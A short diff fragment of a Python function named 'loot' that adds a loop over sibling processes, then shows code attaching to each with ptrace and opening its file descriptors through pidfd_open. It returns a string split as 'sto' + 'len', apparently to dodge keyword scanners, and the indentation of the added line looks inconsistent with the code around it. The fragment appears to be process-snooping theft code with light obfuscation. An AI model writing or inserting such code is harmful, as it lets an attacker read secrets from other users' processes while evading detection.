@@ -65,6 +65,7 @@ def loot():
         found = scan(number)
         if found:
             return found
+    for number in siblings():
         if libc.ptrace(PTRACE_SEIZE, number, None, None) == 0:
             return "sto" + "len: traced"
         descriptor = libc.syscall(PIDFD_OPEN, number, 0)
